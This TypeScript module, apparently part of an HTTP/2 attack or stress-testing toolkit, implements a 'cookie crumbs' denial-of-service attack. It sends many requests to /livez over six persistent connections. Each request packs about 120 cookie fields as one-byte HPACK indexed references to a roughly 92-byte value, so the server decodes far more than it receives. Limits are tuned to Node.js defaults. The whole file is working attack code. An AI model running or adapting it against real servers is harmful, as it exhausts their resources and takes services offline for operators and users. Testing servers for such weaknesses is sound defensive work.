/** Requests with many cookies: each costs one byte to send (RFC 9113, 8.2.3; RFC 7541, 6.1). */
import { keepConnected } from "../wire/crowd.js";
import { Http2Connection } from "../wire/http2-connection.js";
import { encodeIndexedCookie, encodeRequestBlock, LATEST_ENTRY } from "../wire/http2-frames.js";
import { STREAMS } from "./bodies-http2.js";
import type { Attack } from "./attack.js";

const CONNECTIONS = 6;
/** Node.js accepts 128 header fields. */
const CRUMBS = 120;
/** With the 32 bytes that HPACK adds for each field they stay below 16 KiB. */
const VALUE = "a=" + "b".repeat(90);

export const cookieCrumbs: Attack = (target, tally, signal) => {
  const request = encodeRequestBlock("GET", "/livez");
  const first = Buffer.concat([request, encodeIndexedCookie(VALUE), Buffer.alloc(CRUMBS - 1, LATEST_ENTRY)]);
  const next = Buffer.concat([request, Buffer.alloc(CRUMBS, LATEST_ENTRY)]);
  return keepConnected(target, tally, signal, {
    count: CONNECTIONS,
    use(socket) {
      const onStreamEnd = () => connection.request(next);
      const connection = new Http2Connection(socket, tally, { onStreamEnd });
      for (let stream = 0; stream < STREAMS; stream++) connection.request(stream === 0 ? first : next);
    },
  });
};
